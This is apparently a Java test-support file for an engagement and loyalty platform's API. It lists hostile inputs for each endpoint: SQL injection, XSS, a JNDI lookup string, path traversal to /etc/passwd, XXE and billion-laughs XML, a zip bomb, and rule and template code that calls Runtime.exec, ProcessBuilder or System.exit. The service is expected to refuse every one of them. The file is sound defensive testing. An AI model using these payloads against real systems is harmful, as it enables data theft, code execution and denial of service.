package io.engage.engine.hostile;

import static io.engage.engine.hostile.HostileRequest.ANONYMOUS;
import static io.engage.engine.hostile.HostileRequest.INTEGRATOR;
import static io.engage.engine.hostile.HostileRequest.encoded;
import static io.engage.engine.hostile.HostileRequest.event;
import static io.engage.engine.hostile.HostileRequest.json;
import static io.engage.engine.hostile.HostileRequest.multipart;
import static io.engage.engine.hostile.HostileRequest.raw;
import static io.engage.engine.hostile.HostileRequest.utf8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The hostile inputs, per public input: malformed, oversized, injection, unicode edge cases and
 * wrong types. Each one must be refused with a 4xx problem+json.
 */
final class HostileCases {

  /** Strings that are not identifiers: injections and unicode that looks like something else. */
  static final List<String> BAD_IDENTIFIERS = List.of(
      "x' OR '1'='1", "1; DROP TABLE event;--", "<script>alert(1)</script>", "${jndi:ldap://evil/a}",
      "../../etc/passwd", "abc\u202Edef", "a\u200Bb", "a\uD83D\uDE00b", "a\u0000b", "a\\uD800b", "a\\u0000b", " ");

  private static final String BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL";

  private HostileCases() {}

  static List<HostileRequest> all() {
    List<HostileRequest> cases = new ArrayList<>();
    cases.addAll(events());
    cases.addAll(customers());
    cases.addAll(bpmn());
    cases.addAll(drl());
    cases.addAll(decisionTables());
    cases.addAll(grids());
    cases.addAll(imports());
    cases.addAll(templates());
    return cases;
  }

  static List<HostileRequest> events() {
    List<HostileRequest> cases = new ArrayList<>(List.of(
        event("event: truncated JSON", "{\"eventId\":\"h-1\",\"type\":"),
        event("event: bare word", "nul"),
        event("event: a string", "\"order.placed\""),
        event("event: a number", "42"),
        event("event: events is not an array", "{\"events\": 5}"),
        event("event: batch of numbers", "[1, 2, 3]"),
        event("event: batch of nulls", "{\"events\": [null, null]}"),
        event("event: nested arrays", "[[[]]]"),
        event("event: trailing garbage", "{\"eventId\":\"h-2\"} {\"eventId\":\"h-3\"}"),
        event("event: comments", "{/* hi */ \"eventId\":\"h-4\"}"),
        event("event: single quotes", "{'eventId':'h-5'}"),
        event("event: NaN amount", valid("h-6", "order.placed", "{\"orderId\":\"o-h6\",\"amount\":NaN}")),
        event("event: customerId a number", valid("h-7", "customer.registered", "{}").replace("\"c-hostile-seed\"", "42")),
        event("event: data an array", valid("h-8", "customer.registered", "[]")),
        event("event: type an object", valid("h-9", "customer.registered", "{}").replace("\"customer.registered\"", "{}")),
        event("event: occurredAt a number", valid("h-10", "customer.registered", "{}")
            .replace("\"2026-11-20T10:00:00Z\"", "1700000000")),
        event("event: occurredAt year 99999", valid("h-11", "customer.registered", "{}")
            .replace("2026-11-20T10:00:00Z", "+99999-01-01T00:00:00Z")),
        event("event: negative amount", valid("h-12", "order.placed", "{\"orderId\":\"o-h12\",\"amount\":-1}")),
        event("event: amount 1e400", valid("h-13", "order.placed", "{\"orderId\":\"o-h13\",\"amount\":1e400}")),
        event("event: amount with 5000 digits", valid("h-14", "order.placed",
            "{\"orderId\":\"o-h14\",\"amount\":" + "9".repeat(5000) + "}")),
        event("event: 200 levels deep", valid("h-15", "customer.registered", "{\"a\":".repeat(200) + "1" + "}".repeat(200))),
        event("event: 2 MB eventId", valid("x".repeat(2_000_000), "customer.registered", "{}")),
        event("event: name of 100,000 characters", valid("h-16", "customer.registered",
            "{\"name\":\"" + "名".repeat(100_000) + "\"}")),
        raw("event: invalid UTF-8 bytes", INTEGRATOR, "/api/events", "application/json",
            new byte[] {'{', '"', 'e', '"', ':', '"', (byte) 0xC3, 0x28, (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'}),
        event("event: lone surrogate in a name", valid("h-19", "customer.registered", "{\"name\":\"a\\uD800b\"}")),
        event("event: reversed surrogates in a name", valid("h-20", "customer.registered", "{\"name\":\"\\uDE00\\uD83D\"}")),
        event("event: NUL in a name", valid("h-21", "customer.registered", "{\"name\":\"a\\u0000b\"}")),
        event("event: escape character in an address", valid("h-22", "customer.registered",
            "{\"address\":\"\\u001b[31mred\"}")),
        event("event: internal type", valid("h-18", "lifecycle.changed", "{}")),
        new HostileRequest("event: text/plain", "POST", "/api/events", INTEGRATOR, "text/plain", utf8("hello")),
        new HostileRequest("event: no body", "POST", "/api/events", INTEGRATOR, "application/json", null),
        new HostileRequest("event: XML body", "POST", "/api/events", INTEGRATOR, "application/xml",
            utf8("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"))));
    for (String bad : BAD_IDENTIFIERS) {
      cases.add(event("event: eventId " + printable(bad), valid(jsonString(bad), "customer.registered", "{}")));
      cases.add(event("event: customerId " + printable(bad), valid("h-cid", "customer.registered", "{}")
          .replace("c-hostile-seed", jsonString(bad))));
      cases.add(event("event: orderId " + printable(bad), valid("h-oid", "order.placed",
          "{\"orderId\":\"" + jsonString(bad) + "\",\"amount\":10}")));
    }
    return cases;
  }

  static List<HostileRequest> customers() {
    List<HostileRequest> cases = new ArrayList<>();
    for (String bad : List.of("'; DROP TABLE customer_tag;--", "<script>", "vip\u202Exx", "vip\u200B", "vip\uD83D\uDE00",
        "x".repeat(300))) {
      cases.add(new HostileRequest("tag: " + printable(bad), "PUT", "/api/customers/c-hostile-seed/tags/" + encoded(bad),
          "marketer", null, null));
    }
    cases.addAll(List.of(
        json("verification: malformed", "admin", "PUT", "/api/customers/c-hostile-seed/verification", "{\"email\":"),
        json("verification: wrong type", "admin", "PUT", "/api/customers/c-hostile-seed/verification", "{\"email\":\"yes\"}"),
        json("verification: array", "admin", "PUT", "/api/customers/c-hostile-seed/verification", "[true]"),
        json("verification: unknown customer", "admin", "PUT",
            "/api/customers/" + encoded("x' OR '1'='1") + "/verification", "{\"email\":true}"),
        json("tier override: wrong types", "business", "PUT", "/api/customers/c-hostile-seed/tier-override",
            "{\"tier\":42,\"until\":\"soon\"}"),
        json("tier override: unknown tier", "business", "PUT", "/api/customers/c-hostile-seed/tier-override",
            "{\"tier\":\"'; DROP TABLE customer;--\",\"reason\":\"x\",\"until\":\"2027-01-01\"}"),
        json("redemption: negative points", INTEGRATOR, "POST", "/api/customers/c-hostile-seed/points/redemptions",
            "{\"idempotencyKey\":\"h-r1\",\"points\":-100,\"reason\":\"x\"}"),
        json("redemption: points as text", INTEGRATOR, "POST", "/api/customers/c-hostile-seed/points/redemptions",
            "{\"idempotencyKey\":\"h-r2\",\"points\":\"all\",\"reason\":\"x\"}"),
        json("redemption: 10^30 points", INTEGRATOR, "POST", "/api/customers/c-hostile-seed/points/redemptions",
            "{\"idempotencyKey\":\"h-r3\",\"points\":1000000000000000000000000000000,\"reason\":\"x\"}"),
        json("lifecycle: unknown stage", "marketer", "PUT", "/api/customers/c-hostile-seed/lifecycle",
            "{\"stage\":\"<script>\",\"reason\":\"x\"}"),
        json("device: malformed", INTEGRATOR, "POST", "/api/customers/c-hostile-seed/devices", "{\"token\":"),
        json("device: wrong platform", INTEGRATOR, "POST", "/api/customers/c-hostile-seed/devices",
            "{\"platform\":\"../../x\",\"token\":\"\\u0000\"}"),
        json("merge: malformed", "admin", "POST", "/api/customers/merges", "{\"survivor\":"),
        json("segment preview: wrong types", "marketer", "POST", "/api/segments/preview", "{\"rules\":\"all\"}"),
        json("segment preview: SQL as a field", "marketer", "POST", "/api/segments/preview",
            "{\"definition\":{\"field\":\"c.id) OR 1=1 --\",\"op\":\"eq\",\"value\":\"x\"}}"),
        json("segment preview: SQL as an operator", "marketer", "POST", "/api/segments/preview",
            "{\"definition\":{\"field\":\"tier\",\"op\":\"= 'GOLD' OR 1=1 --\",\"value\":\"x\"}}"),
        json("segment preview: nested 50 deep", "marketer", "POST", "/api/segments/preview",
            "{\"definition\":" + "{\"not\":".repeat(50) + "{\"field\":\"tag\",\"op\":\"has\",\"value\":\"vip\"}"
                + "}".repeat(51)),
        json("segment: key with SQL", "marketer", "POST", "/api/segments",
            "{\"key\":\"x'; DROP TABLE segment;--\",\"name\":\"n\",\"definition\":{\"field\":\"tag\",\"op\":\"has\",\"value\":\"vip\"}}"),
        new HostileRequest("customer search: injection in the limit", "GET",
            "/api/customers?limit=" + encoded("1; DROP TABLE customer"), "admin", null, null)));
    return cases;
  }

  static List<HostileRequest> bpmn() {
    String process = "<bpmn:definitions xmlns:bpmn=\"" + BPMN_NS + "\" id=\"d\"><bpmn:process id=\"hostile\" "
        + "isExecutable=\"true\" name=\"&x;\"/></bpmn:definitions>";
    return List.of(
        raw("bpmn: XXE reading a file", "marketer", "/api/journeys", "application/xml",
            utf8("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + process)),
        raw("bpmn: XXE to a URL", "marketer", "/api/journeys", "application/xml",
            utf8("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">]>" + process)),
        raw("bpmn: billion laughs", "marketer", "/api/journeys", "application/xml", utf8(
            "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY l \"lol\"><!ENTITY l1 \"&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;\">"
                + "<!ENTITY l2 \"&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;\"><!ENTITY x \"&l2;&l2;&l2;&l2;&l2;&l2;\">]>"
                + process)),
        raw("bpmn: external DTD", "marketer", "/api/journeys", "application/xml",
            utf8("<?xml version=\"1.0\"?><!DOCTYPE d SYSTEM \"http://127.0.0.1:9/d.dtd\">" + process.replace("&x;", "x"))),
        raw("bpmn: parameter entity", "marketer", "/api/journeys", "application/xml",
            utf8("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>"
                + process.replace("&x;", "x"))),
        raw("bpmn: XInclude", "marketer", "/api/journeys", "application/xml", utf8(
            "<bpmn:definitions xmlns:bpmn=\"" + BPMN_NS + "\" xmlns:xi=\"http://www.w3.org/2001/XInclude\" id=\"d\">"
                + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></bpmn:definitions>")),
        raw("bpmn: not well-formed", "marketer", "/api/journeys", "application/xml", utf8("<bpmn:definitions")),
        raw("bpmn: binary", "marketer", "/api/journeys", "application/xml", new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 1, 2}),
        raw("bpmn: empty", "marketer", "/api/journeys", "application/xml", new byte[0]),
        raw("bpmn: not BPMN", "marketer", "/api/journeys", "application/xml", utf8("<html><script>x</script></html>")),
        raw("bpmn: 11 MB", "marketer", "/api/journeys", "application/xml", new byte[11 << 20]),
        multipart("bpmn: multipart XXE", "marketer", "/api/journeys", "evil.bpmn",
            utf8("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + process)),
        multipart("bpmn: multipart without file", "marketer", "/api/journeys", null, null, "comment", "x"));
  }

  static List<HostileRequest> drl() {
    String path = "/api/rules/points/versions";
    return List.of(
        json("drl: System.exit", "business", "POST", path, drlDraft("System.exit(0);")),
        json("drl: Runtime exec", "business", "POST", path, drlDraft("Runtime.getRuntime().exec(\\\"id\\\");")),
        json("drl: ProcessBuilder", "business", "POST", path, drlDraft("new ProcessBuilder(\\\"id\\\").start();")),
        json("drl: reading a file", "business", "POST", path, drlDraft("java.nio.file.Files.readString(null);")),
        json("drl: reflection", "business", "POST", path, drlDraft("$c.getClass().getMethod(\\\"x\\\");")),
        json("drl: thread", "business", "POST", path, drlDraft("new Thread(() -> {}).start();")),
        json("drl: unicode escape", "business", "POST", path, drlDraft("\\\\u0053ystem.exit(0);")),
        json("drl: import java.io", "business", "POST", path,
            "{\"drl\":\"package io.engage.rules.points;\\nimport java.io.File;\\nrule \\\"x\\\" when $c : PointsCalculation() then end\"}"),
        json("drl: syntax error", "business", "POST", path, "{\"drl\":\"rule \\\"x\\\" when then\"}"),
        json("drl: empty", "business", "POST", path, "{\"drl\":\"\"}"),
        json("drl: a number", "business", "POST", path, "{\"drl\":42}"),
        json("drl: 1.2 million characters", "business", "POST", path, "{\"drl\":\"" + "x".repeat(1_200_000) + "\"}"),
        json("drl: unknown rule set", "business", "POST", "/api/rules/" + encoded("..%2f..") + "/versions", drlDraft("")),
        json("drl: NUL in DRL", "business", "POST", path, drlDraft("\\u0000")));
  }

  static List<HostileRequest> decisionTables() {
    String path = "/api/rules/points/versions/upload";
    return List.of(
        multipart("table: zip bomb", "business", path, "bomb.xlsx", zipBomb()),
        multipart("table: XXE in a sheet", "business", path, "xxe.xlsx", zip("xl/worksheets/sheet1.xml",
            "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><worksheet>&x;</worksheet>")),
        multipart("table: not a zip", "business", path, "fake.xlsx", utf8("PK but not really")),
        multipart("table: empty", "business", path, "empty.csv", new byte[0]),
        multipart("table: executable", "business", path, "run.exe", utf8("MZ")),
        multipart("table: path traversal name", "business", path, "../../../../tmp/x.csv", utf8("nothing,here")),
        multipart("table: binary CSV", "business", path, "binary.csv", new byte[] {0, 1, 2, (byte) 0xFF, '\n', 0}),
        multipart("table: System.exit in an action", "business", path, "exit.csv", utf8(table("System.exit(0);"))),
        multipart("table: import java.lang.Runtime", "business", path, "runtime.csv",
            utf8(table("$c.awardBase(\"\"b\"\", new BigDecimal(\"\"$param\"\"));").replace("Import,java.math.BigDecimal",
                "Import,java.lang.Runtime"))),
        multipart("table: no file part", "business", path, null, null, "comment", "x"));
  }

  static List<HostileRequest> grids() {
    String path = "/api/rules/points/versions/grid";
    String grid = """
        {"grid":{"packageName":"io.engage.rules.points","imports":["java.math.BigDecimal"],"tableName":"T",
          "factBinding":"$c : PointsCalculation",
          "columns":[{"kind":"CONDITION","title":"Tier","template":"tier == \\"$param\\""},
                     {"kind":"ACTION","title":"P","template":"$c.awardBase(\\"b\\", new BigDecimal(\\"$param\\"));"}],
          "rows":[{"name":"Gold","cells":["GOLD","1"]}]}}""";
    return List.of(
        json("grid: empty object", "business", "POST", path, "{\"grid\":{}}"),
        json("grid: null", "business", "POST", path, "{\"grid\":null}"),
        json("grid: wrong kind", "business", "POST", path, grid.replace("\"CONDITION\"", "\"SHELL\"")),
        json("grid: injected cell", "business", "POST", path, grid.replace("\"GOLD\"", "\"GOLD\\\"); System.exit(0); //\"")),
        json("grid: Runtime import", "business", "POST", path, grid.replace("\"java.math.BigDecimal\"", "\"java.lang.Runtime\"")),
        json("grid: code in a template", "business", "POST", path,
            grid.replace("$c.awardBase(\\\"b\\\", new BigDecimal(\\\"$param\\\"));", "System.exit($param);")),
        json("grid: code in the fact binding", "business", "POST", path,
            grid.replace("$c : PointsCalculation", "$c : PointsCalculation() eval(true) and java.io.File")),
        json("grid: rows null", "business", "POST", path, grid.replace("[{\"name\":\"Gold\",\"cells\":[\"GOLD\",\"1\"]}]", "null")),
        json("grid: cells null", "business", "POST", path, grid.replace("\"cells\":[\"GOLD\",\"1\"]", "\"cells\":null")),
        json("grid: RTL override in a cell", "business", "POST", path, grid.replace("\"GOLD\"", "\"GO\\u202ELD\"")));
  }

  static List<HostileRequest> imports() {
    String csv = "order_id,customer_id,placed_at,amount\no-1,c-1,2026-01-01T00:00:00Z,1\n";
    return List.of(
        multipart("import: unknown preset", "admin", "/api/imports?preset=" + encoded("'; DROP TABLE import_job;--"),
            "o.csv", utf8(csv)),
        multipart("import: malformed mapping", "admin", "/api/imports", "o.csv", utf8(csv), "mapping", "{\"kind\":"),
        multipart("import: mapping without columns", "admin", "/api/imports", "o.csv", utf8(csv), "mapping",
            "{\"kind\":\"orders\"}"),
        multipart("import: mapping of the wrong kind", "admin", "/api/imports", "o.csv", utf8(csv), "mapping",
            "{\"kind\":\"passwords\",\"columns\":{\"customerId\":\"c\"}}"),
        multipart("import: mapping an array", "admin", "/api/imports", "o.csv", utf8(csv), "mapping", "[1,2]"),
        multipart("import: bad time zone", "admin", "/api/imports", "o.csv", utf8(csv), "mapping",
            "{\"kind\":\"customers\",\"columns\":{\"customerId\":\"c\"},\"timeZone\":\"Mars/Olympus\"}"),
        multipart("import: bad date format", "admin", "/api/imports", "o.csv", utf8(csv), "mapping",
            "{\"kind\":\"customers\",\"columns\":{\"customerId\":\"c\"},\"dateFormats\":[\"yyyy-'unterminated\"]}"),
        multipart("import: long delimiter", "admin", "/api/imports", "o.csv", utf8(csv), "mapping",
            "{\"kind\":\"customers\",\"columns\":{\"customerId\":\"c\"},\"delimiter\":\";;;;\"}"),
        multipart("import: no mapping", "admin", "/api/imports", "o.csv", utf8(csv)),
        multipart("import: 30 parts", "admin", "/api/imports?preset=engage-orders", "o.csv", utf8(csv), manyFields(30)),
        multipart("import: a 4 KB part header", "admin", "/api/imports?preset=engage-orders", "o.csv", utf8(csv),
            "x".repeat(4096), "y"),
        multipart("import: no file part", "admin", "/api/imports?preset=engage-orders", null, null),
        raw("import: raw without a mapping", "admin", "/api/imports", "text/csv", utf8(csv)),
        raw("import: raw with a JSON body", "admin", "/api/imports?preset=engage-orders", "application/json", utf8("{}")));
  }

  static List<HostileRequest> templates() {
    return List.of(
        json("template: include /etc/passwd", "marketer", "POST", "/api/templates",
            template("h-include", "{% include '/etc/passwd' %}")),
        json("template: include_relative", "marketer", "POST", "/api/templates",
            template("h-include-relative", "{% include_relative ../application.yml %}")),
        json("template: unknown filter", "marketer", "POST", "/api/templates", template("h-filter", "{{ x | exec }}")),
        json("template: unclosed tag", "marketer", "POST", "/api/templates", template("h-unclosed", "{% if x %}")),
        json("template: 300 KB", "marketer", "POST", "/api/templates", template("h-big", "x".repeat(300_000))),
        json("template: key with a path", "marketer", "POST", "/api/templates", template("../../etc/passwd", "hi")),
        json("template: key with SQL", "marketer", "POST", "/api/templates", template("x'; DROP TABLE message_template;--", "hi")),
        json("template: variants a string", "marketer", "POST", "/api/templates",
            "{\"key\":\"h-variants\",\"fallbackLocale\":\"en\",\"variants\":\"all\"}"),
        json("template: malformed", "marketer", "POST", "/api/templates", "{\"key\":"),
        json("template: preview nested 200 deep", "marketer", "POST", "/api/templates/welcome/preview",
            "{\"locale\":\"en\",\"channel\":\"EMAIL\",\"vars\":" + "{\"a\":".repeat(200) + "1" + "}".repeat(201)),
        json("template: preview of an unknown customer", "marketer", "POST", "/api/templates/welcome/preview",
            "{\"customerId\":\"x' OR 1=1 --\",\"locale\":\"en\",\"channel\":\"EMAIL\"}"));
  }

  private static String[] manyFields(int count) {
    String[] fields = new String[count * 2];
    for (int i = 0; i < count; i++) {
      fields[2 * i] = "field" + i;
      fields[2 * i + 1] = "value";
    }
    return fields;
  }

  /** A valid event whose fields a case then spoils. */
  static String valid(String eventId, String type, String data) {
    return """
        {"eventId":"%s","customerId":"c-hostile-seed","type":"%s","occurredAt":"2026-11-20T10:00:00Z","data":%s}"""
        .formatted(eventId, type, data);
  }

  private static String drlDraft(String consequence) {
    return "{\"drl\":\"package io.engage.rules.points;\\nrule \\\"Hostile\\\"\\nwhen\\n    $c : PointsCalculation()\\nthen\\n    "
        + consequence + "\\nend\\n\"}";
  }

  private static String template(String key, String text) {
    return """
        {"key":"%s","description":"hostile","fallbackLocale":"en",
         "variants":[{"locale":"en","channel":"EMAIL","subject":"s","text":"%s","html":null}]}"""
        .formatted(key.replace("\"", "\\\""), text.replace("\"", "\\\""));
  }

  /** A CSV decision table whose one action runs the given code. */
  static String table(String action) {
    return String.join("\n",
        "RuleSet,io.engage.rules.points",
        "Import,java.math.BigDecimal",
        "Notes,hostile",
        ",",
        "RuleTable Hostile",
        "NAME,CONDITION,ACTION",
        ",$c : PointsCalculation,",
        ",\"tier == \"\"$param\"\"\",\"" + action + "\"",
        "Rule,Tier,Points",
        "Basic,BASIC,1",
        "Gold,GOLD,1",
        "");
  }

  private static byte[] zipBomb() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < 100; i++) {
        zip.write(zeros);
      }
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static byte[] zip(String entry, String content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
      zip.write(utf8("<Types/>"));
      zip.putNextEntry(new ZipEntry(entry));
      zip.write(utf8(content));
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /** The string as it goes inside a JSON string literal (JSON escapes such as \\uD800 kept as written). */
  private static String jsonString(String text) {
    StringBuilder out = new StringBuilder();
    for (char c : text.toCharArray()) {
      if (c == '"') {
        out.append("\\\"");
      } else if (c < 0x20) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.toString();
  }

  private static String printable(String text) {
    StringBuilder out = new StringBuilder();
    text.codePoints().forEach(cp -> out.append(cp < 0x20 || (cp >= 0x200B && cp <= 0x206F) || cp > 0xFFFF
        ? String.format("U+%04X", cp) : Character.toString(cp)));
    return out.toString();
  }
}
